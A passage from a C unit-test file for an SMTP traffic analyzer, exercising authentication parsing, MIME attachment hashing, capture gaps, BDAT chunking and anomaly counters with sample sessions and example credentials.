				    "\"result\":\"failure\",\"cleartext\":true,"
				    "\"reply\":\"501 5.7.0 Authentication aborted\",\"attempt\":1}}");
	has(out, "\"smtp\":{\"helo\":\"scanner\",\"status\":\"no_transaction\","
				    "\"capabilities\":[\"AUTH LOGIN\"],\"auth_mech\":\"LOGIN\","
				    "\"auth_user\":\"user\",\"auth_result\":\"failure\",\"auth_attempts\":1}}");
	at_free();
}

static void test_auth_mechanisms(void **state)
{
	const char *out;

	(void)state;
	at_open(MT_APP_SMTP, 587);
	at_s2c("220 mx\r\n");
	/* XOAUTH2 initial response: "user=erin@example.com\1auth=Bearer tok\1\1" */
	at_c2s("AUTH XOAUTH2 dXNlcj1lcmluQGV4YW1wbGUuY29tAWF1dGg9QmVhcmVyIHRvawEB\r\n");
	at_s2c("334 eyJzdGF0dXMiOiI0MDEifQ==\r\n");
	at_c2s("\r\n");
	at_s2c("535 5.7.8 Username and Password not accepted\r\n");
	at_c2s("AUTH CRAM-MD5\r\n");
	at_s2c("334 PDQxOTI5NDIzNDEuMTI4Mjg0NzJAc291cmNlZm91ci5hbmRyZXcuY211LmVkdT4=\r\n");
	/* "tim b913a602c7eda7a495b4e6e7334d3890" (RFC 2195) */
	at_c2s("dGltIGI5MTNhNjAyYzdlZGE3YTQ5NWI0ZTZlNzMzNGQzODkw\r\n");
	at_s2c("235 Authentication successful\r\n");
	out = at_close();
	has(out, "\"mechanism\":\"XOAUTH2\",\"user\":\"erin@example.com\","
				    "\"result\":\"failure\",\"cleartext\":true");
	has(out, "\"mechanism\":\"CRAM-MD5\",\"user\":\"tim\","
				    "\"result\":\"success\",\"cleartext\":false");
	hasnt(out, "tok");
	assert_int_equal(at.ctr.v[MT_CTR_app_anomaly_records], 0);
	at_free();
}

/* OAUTHBEARER (RFC 7628): the user is the GS2 header's a= attribute; a
 * refused token gets an error challenge, answered by %x01, then 535. */
static void test_auth_oauthbearer(void **state)
{
	const char *out;

	(void)state;
	at_open(MT_APP_SMTP, 587);
	at_s2c("220 mx\r\n");
	at_c2s("EHLO c\r\n");
	at_s2c("250-mx\r\n250 AUTH OAUTHBEARER XOAUTH2\r\n");
	/* "n,a=user@example.com,\1host=server.example.com\1port=587\1
	 * auth=Bearer vF9dft4qmTc2Nvb3RlckBhbHRhdmlzdGEuY29tCg==\1\1" */
	at_c2s("AUTH OAUTHBEARER bixhPXVzZXJAZXhhbXBsZS5jb20sAWhvc3Q9c2VydmVyLmV4YW1wbGUuY29tAXBvcnQ9NTg3AWF1dGg9QmVhcmVyIHZGOWRmdDRxbVRjMk52YjNSbGNrQmhiSFJoZG1semRHRXVZMjl0Q2c9PQEB\r\n");
	at_s2c("334 eyJzdGF0dXMiOiJpbnZhbGlkX3Rva2VuIiwic2NvcGUiOiJleGFtcGxlX3Njb3BlIn0=\r\n");
	at_c2s("AQ==\r\n");
	at_s2c("535 5.7.8 Authentication credentials invalid\r\n");
	/* "n,a=grace,\1auth=Bearer tok\1\1" */
	at_c2s("AUTH OAUTHBEARER bixhPWdyYWNlLAFhdXRoPUJlYXJlciB0b2sBAQ==\r\n");
	at_s2c("235 2.7.0 Authentication successful\r\n");
	out = at_close();
	has(out, "\"auth\":{\"mechanism\":\"OAUTHBEARER\",\"user\":\"user@example.com\","
		 "\"result\":\"failure\",\"cleartext\":true,"
		 "\"reply\":\"535 5.7.8 Authentication credentials invalid\",\"attempt\":1}}");
	has(out, "\"auth\":{\"mechanism\":\"OAUTHBEARER\",\"user\":\"grace\","
		 "\"result\":\"success\",\"cleartext\":true,"
		 "\"reply\":\"235 2.7.0 Authentication successful\",\"attempt\":2}}");
	has(out, "\"auth_mech\":\"OAUTHBEARER\",\"auth_user\":\"grace\","
		 "\"auth_result\":\"success\",\"auth_attempts\":2}}");
	hasnt(out, "Bearer");
	hasnt(out, "vF9dft4q");
	assert_int_equal(at.ctr.v[MT_CTR_app_anomaly_records], 0);
	at_free();
}

/* A user name with a NUL (LOGIN's first response "a\0b") is the same in
 * the auth record and the session record. */
static void test_auth_user_with_nul(void **state)
{
	const char *out;

	(void)state;
	at_open(MT_APP_SMTP, 587);
	at_s2c("220 mx\r\n");
	at_c2s("EHLO c\r\n");
	at_s2c("250 AUTH LOGIN\r\n");
	at_c2s("AUTH LOGIN YQBi\r\n");
	at_s2c("334 UGFzc3dvcmQ6\r\n");
	at_c2s("cHc=\r\n");
	at_s2c("535 5.7.8 no\r\n");
	out = at_close();
	has(out, "\"auth\":{\"mechanism\":\"LOGIN\",\"user\":\"a\\u0000b\",");
	has(out, "\"auth_mech\":\"LOGIN\",\"auth_user\":\"a\\u0000b\",");
	at_free();
}

/* ---- messages: MIME through SMTP ---- */

static size_t b64_encode(const uint8_t *in, size_t n, char *out, size_t linelen)
{
	static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t o = 0, col = 0;

	for (size_t i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)in[i] << 16 | (i + 1 < n ? (uint32_t)in[i + 1] << 8 : 0) |
			     (i + 2 < n ? in[i + 2] : 0);

		out[o++] = a[v >> 18 & 63];
		out[o++] = a[v >> 12 & 63];
		out[o++] = i + 1 < n ? a[v >> 6 & 63] : '=';
		out[o++] = i + 2 < n ? a[v & 63] : '=';
		col += 4;
		if (col >= linelen || i + 3 >= n) {
			out[o++] = '\r';
			out[o++] = '\n';
			col = 0;
		}
	}
	return o;
}

/* 3000 bytes (i * 7 + 3) & 255; python3 hashlib gives this SHA-256. */
#define BIG_SHA "f541874101876255b4baf3a739778d04cb9cba25ffa38b30bc1fb8b0701f2a45"

static char big_msg[8192];

/* A two-attachment message, terminator included; returns its length. */
static size_t make_big_msg(void)
{
	uint8_t data[3000];
	size_t n;

	for (size_t i = 0; i < sizeof(data); i++)
		data[i] = (uint8_t)((i * 7 + 3) & 255);
	n = (size_t)snprintf(big_msg, sizeof(big_msg),
			     "Subject: big\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
			     "--b1\r\nContent-Type: application/octet-stream; name=\"big.bin\"\r\n"
			     "Content-Transfer-Encoding: base64\r\n\r\n");
	n += b64_encode(data, sizeof(data), big_msg + n, 76);
	n += (size_t)snprintf(big_msg + n, sizeof(big_msg) - n,
			      "--b1\r\nContent-Type: text/plain\r\n"
			      "Content-Disposition: attachment; filename=second.txt\r\n"
			      "Content-Transfer-Encoding: base64\r\n\r\n"
			      "c2Vjb25kIGF0dGFjaG1lbnQK\r\n--b1--\r\n.\r\n");
	return n;
}

static void open_data(void)
{
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx\r\n");
	at_c2s("MAIL FROM:<a@example.com>\r\nRCPT TO:<b@example.org>\r\nDATA\r\n");
	at_s2c("250 ok\r\n250 ok\r\n354 go\r\n");
}

/* Two segments, split at every offset of the content: boundaries, base64
 * quanta, the CRLF before a delimiter and the terminator all cut. */
static void test_split_every_offset(void **state)
{
	size_t n = make_big_msg();

	(void)state;
	for (size_t k = 1; k < n; k++) {
		const char *out;

		open_data();
		at_feed(MT_DIR_C2S, big_msg, k, 0);
		at_feed(MT_DIR_C2S, big_msg + k, n - k, 0);
		at_s2c("250 queued\r\n");
		out = at_close();
		if (!strstr(out, "{\"filename\":\"big.bin\",\"content_type\":\"application/octet-stream\","
				 "\"size\":3000,\"sha256\":\"" BIG_SHA "\"},{\"filename\":\"second.txt\","
				 "\"content_type\":\"text/plain\",\"size\":18,"
				 "\"sha256\":\"a0129b7de35523be1152b4f4ae60645dd1b597f554cdd401cc066a93d5f39a1e\"}") ||
		    !strstr(out, "\"status\":\"delivered\"")) {
			fprintf(stderr, "split at %zu:\n%s", k, out);
			fail();
		}
		assert_int_equal(at.ctr.v[MT_CTR_app_anomaly_records], 0);
		at_free();
	}
}

static const char *nested_msg =
	"From: a@example.com\r\n"
	"Subject: nested\r\n"
	"Content-Type: multipart/mixed; boundary=\"outer\"\r\n"
	"\r\n"
	"--outer\r\n"
	"Content-Type: multipart/alternative; boundary=\"inner\"\r\n"
	"\r\n"
	"--inner\r\n"
	"Content-Type: text/plain\r\n"
	"\r\n"
	"plain\r\n"
	"--inner\r\n"
	"Content-Type: text/html\r\n"
	"\r\n"
	"<p>html</p>\r\n"
	"--inner--\r\n"
	"--outer\r\n"
	"Content-Type: application/octet-stream; name=\"hello.bin\"\r\n"
	"Content-Transfer-Encoding: base64\r\n"
	"\r\n"
	"aGVsbG8gd29ybGQK\r\n"
	"--outer\r\n"
	"Content-Type: message/rfc822\r\n"
	"\r\n"
	"From: b@example.net\r\n"
	"Subject: inner message\r\n"
	"Content-Type: multipart/mixed; boundary=\"fwd\"\r\n"
	"\r\n"
	"--fwd\r\n"
	"Content-Type: text/plain\r\n"
	"\r\n"
	"see attached\r\n"
	"--fwd\r\n"
	"Content-Type: text/plain\r\n"
	"Content-Disposition: attachment; filename=\"payload.txt\"\r\n"
	"\r\n"
	"forwarded payload\r\n"
	"--fwd--\r\n"
	"--outer--\r\n"
	".\r\n";

/* Nested multiparts and a forwarded message/rfc822 whose attachment is
 * listed too; only the outer message's headers fill email.*. */
static void test_nested_multipart(void **state)
{
	const char *out;

	(void)state;
	open_data();
	at_c2s(nested_msg);
	at_s2c("250 queued\r\n");
	out = at_close();
	has(out, "\"email\":{\"from\":\"a@example.com\",\"subject\":\"nested\","
				    "\"parts\":5,\"attachment\":[\"hello.bin\",\"payload.txt\"],"
				    "\"files\":[{\"filename\":\"hello.bin\",\"content_type\":"
				    "\"application/octet-stream\",\"size\":12,\"sha256\":"
				    "\"a948904f2f0f479b8f8197694b30184b0d2ed1c1cd2a1ec0fb85d299a192a447\"},"
				    "{\"filename\":\"payload.txt\",\"content_type\":\"text/plain\",\"size\":17,"
				    "\"sha256\":\"ed50e65644d5e2f6da3e1ce46d891908f85ff7cf2c5eba4eff9367080cc8da9b\"}]}}");
	assert_int_equal(at.ctr.v[MT_CTR_app_anomaly_records], 0);
	at_free();
}

static void tiny_mime(struct mt_app_config *cfg)
{
	cfg->mime_parts_max = 2;
	cfg->mime_depth_max = 1;
	cfg->mime_headers_max = 8;
	cfg->mime_header_max = 128;
}

static void test_mime_caps(void **state)
{
	char subject[300];
	const char *out;

	(void)state;
	at_open_cfg(MT_APP_SMTP, 25, tiny_mime);
	at_s2c("220 mx\r\n");
	at_c2s("MAIL FROM:<a@example.com>\r\nRCPT TO:<b@example.org>\r\nDATA\r\n");
	at_s2c("250 ok\r\n250 ok\r\n354 go\r\n");
	memset(subject, 'S', sizeof(subject));
	memcpy(subject, "Subject: ", 9);
	memcpy(subject + sizeof(subject) - 3, "\r\n", 3);
	at_c2s(subject);                                     /* > mime_header_max */
	at_c2s("Content-Type: multipart/mixed; boundary=top\r\n"
	       "X-1: a\r\nX-2: a\r\nX-3: a\r\nX-4: a\r\nX-5: a\r\nX-6: a\r\nX-7: a\r\n\r\n"
	       "--top\r\nContent-Type: multipart/related; boundary=deeper\r\n\r\n" /* depth */
	       "--deeper\r\nContent-Type: text/plain; name=hidden.txt\r\n\r\nx\r\n--deeper--\r\n"
	       "--top\r\nContent-Type: text/plain; name=one.txt\r\n\r\none\r\n"
	       "--top\r\nContent-Type: text/plain; name=two.txt\r\n\r\ntwo\r\n" /* 3rd part */
	       "--top--\r\n.\r\n");
	at_s2c("250 queued\r\n");
	out = at_close();
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_mime_header_too_long], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_mime_too_many_headers], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_mime_nesting_too_deep], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_mime_too_many_parts], 1);
	/* The subject is cut at the cap; one.txt is the only file within caps. */
	has(out, "\"subject\":\"SSSS");
	has(out, "\"attachment\":[\"one.txt\"]");
	at_free();
}

/* A hole in the middle of the first attachment: it is listed without a
 * hash, the parser picks up again at the next boundary, and the second
 * attachment is whole. */
static void test_gap_in_data(void **state)
{
	size_t n = make_big_msg(), cut = 400;
	const char *out;

	(void)state;
	open_data();
	at_feed(MT_DIR_C2S, big_msg, cut, 0);
	mt_app_gap(&at.apps, &at.flow, MT_DIR_C2S, 300, at.now);
	at_feed(MT_DIR_C2S, big_msg + cut + 300, n - cut - 300, 0);
	at_s2c("250 queued\r\n");
	out = at_close();
	has(out, "{\"filename\":\"big.bin\",\"content_type\":\"application/octet-stream\","
				    "\"size\":");
	hasnt(out, BIG_SHA);
	has(out, "{\"filename\":\"second.txt\",\"content_type\":\"text/plain\",\"size\":18,"
				    "\"sha256\":\"a0129b7de35523be1152b4f4ae60645dd1b597f554cdd401cc066a93d5f39a1e\"}");
	has(out, "\"status\":\"delivered\"");
	at_free();

	/* The hole swallows the terminator: the server's reply ends the data,
	 * and that is not blamed on smuggling. */
	open_data();
	at_feed(MT_DIR_C2S, big_msg, cut, 0);
	mt_app_gap(&at.apps, &at.flow, MT_DIR_C2S, (uint32_t)(n - cut), at.now);
	at_s2c("250 queued\r\n");
	at_c2s("QUIT\r\n");
	at_s2c("221 bye\r\n");
	out = at_close();
	has(out, "\"data_reply\":250,\"status\":\"delivered\"");
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_data_smuggling], 0);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_reply_without_command], 0);
	at_free();

	/* A hole in the commands: the replies to what was lost come before
	 * the client's next command, and are not blamed on anyone. */
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx\r\n");
	at_c2s("EHLO a\r\nMAIL FR");
	mt_app_gap(&at.apps, &at.flow, MT_DIR_C2S, 100, at.now);
	at_c2s("M:<x>\r\n");
	at_s2c("250 mx\r\n250 ok\r\n250 ok\r\n");
	at_c2s("NOOP\r\n");
	at_s2c("250 ok\r\n");
	at_s2c("250 unexpected\r\n");
	at_close();
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_reply_without_command], 1);
	at_free();
}

/* BDAT chunks may hold anything, "\r\n.\r\n" included; a hole inside one
 * keeps the byte count. */
static void test_bdat(void **state)
{
	const char *out;

	(void)state;
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx\r\n");
	at_c2s("EHLO c\r\n");
	at_s2c("250-mx\r\n250 CHUNKING\r\n");
	at_c2s("MAIL FROM:<a@example.com>\r\nRCPT TO:<b@example.org>\r\n");
	at_s2c("250 ok\r\n250 ok\r\n");
	at_c2s("BDAT 20\r\nSubject: x\r\n\r\n.\r\n.\r\n");
	at_c2s("BDAT 0 LAST\r\n");
	at_s2c("250 ok\r\n250 ok: queued\r\n");
	at_c2s("MAIL FROM:<c@example.com>\r\nRCPT TO:<d@example.org>\r\n");
	at_s2c("250 ok\r\n250 ok\r\n");
	at_c2s("BDAT 100 LAST\r\n0123456789");
	mt_app_gap(&at.apps, &at.flow, MT_DIR_C2S, 80, at.now);
	at_c2s("0123456789NOOP\r\n");
	at_s2c("250 ok\r\n250 ok\r\n");
	out = at_close();
	has(out, "\"data_reply\":250,\"status\":\"delivered\",\"transaction\":1,"
				    "\"message_size\":20,\"bdat\":true");
	has(out, "\"status\":\"delivered\",\"transaction\":2,\"message_size\":20,"
				    "\"bdat\":true");
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_unknown_command], 0);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_reply_without_command], 0);
	at_free();
}

/* The flow ends in the middle of an attachment: the transaction is
 * written as aborted and the file without a hash. */
static void test_close_mid_data(void **state)
{
	const char *out;

	(void)state;
	open_data();
	at_c2s("Content-Type: application/zip; name=a.zip\r\n"
	       "Content-Transfer-Encoding: base64\r\n\r\nUEsDBA==\r\nUEsD");
	out = at_close();
	has(out, "\"status\":\"aborted\"");
	/* Cut short by the end of the flow: no hash, and said so. */
	has(out, "\"files\":[{\"filename\":\"a.zip\",\"content_type\":"
				    "\"application/zip\",\"size\":7,\"incomplete\":true}]");
	at_free();
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_session_exact),
		cmocka_unit_test(test_session_chunked),
		cmocka_unit_test(test_pipelining),
		cmocka_unit_test(test_many_recipients),
		cmocka_unit_test(test_starttls_switch),
		cmocka_unit_test(test_starttls_injection),
		cmocka_unit_test(test_anomalies_commands),
		cmocka_unit_test(test_anomalies_replies_and_caps),
		cmocka_unit_test(test_partial_views),
		cmocka_unit_test(test_smuggling),
		cmocka_unit_test(test_rejections),
		cmocka_unit_test(test_auth_mechanisms),
		cmocka_unit_test(test_auth_oauthbearer),
		cmocka_unit_test(test_auth_user_with_nul),
		cmocka_unit_test(test_split_every_offset),
		cmocka_unit_test(test_nested_multipart),
		cmocka_unit_test(test_mime_caps),
		cmocka_unit_test(test_gap_in_data),
		cmocka_unit_test(test_bdat),
		cmocka_unit_test(test_close_mid_data),
	};

	return cmocka_run_group_tests_name("smtp", tests, NULL, NULL);
}
